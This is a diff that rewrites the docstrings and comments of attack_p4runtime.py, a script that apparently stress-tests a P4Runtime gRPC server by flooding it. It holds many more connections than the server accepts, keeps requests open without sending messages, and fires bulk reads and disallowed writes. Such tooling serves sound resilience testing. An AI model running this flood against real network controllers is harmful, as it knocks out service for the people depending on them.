@@ -1,4 +1,4 @@
-"""attack_p4runtime.py NAME ADDRESS SECONDS: floods a P4Runtime server as a local user could, and prints what it did as one line of JSON."""
+"""attack_p4runtime.py NAME ADDRESS SECONDS: floods a P4Runtime server as a local user could, and prints a summary as one line of JSON."""
 
 import json
 import socket
@@ -10,19 +10,19 @@ from collections import deque
 import grpc
 from p4.v1 import p4runtime_pb2, p4runtime_pb2_grpc
 
-# Connections that an attacker keeps at a time: many times the places of the server.
+# Connections that an attacker keeps open: many times more than the server accepts.
 KEPT = 200
 SENDERS = 8
 HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
 
 
 def channel(address):
-    """A connection of its own."""
+    """Opens a channel with a connection of its own."""
     return grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])
 
 
 def connections(address, until, say=b""):
-    """Connections that say this and nothing more, some hundred a second."""
+    """Opens some hundred connections a second that send `say` and nothing more."""
     host, _, port = address.rpartition(":")
     kept, made, refused = deque(), 0, 0
     while time.monotonic() < until:
@@ -49,7 +49,7 @@ def in_threads(work, count):
 
 
 def held(address, until, open_request, count):
-    """Requests that never say what they want, each on a connection of its own that is made again when it ends."""
+    """Opens requests that never send a message, each on its own connection. A new one replaces each that ends."""
 
     def work(counts, number):
         while time.monotonic() < until:
@@ -77,7 +77,7 @@ def hold_write(own, silence, timeout):
 
 
 def requests(address, until):
-    """Reads of everything, and writes that are not allowed, as fast as they are answered."""
+    """Sends reads of all entries, and writes that are not allowed, as fast as they are answered."""
 
     def work(counts, number):
         with channel(address) as own:
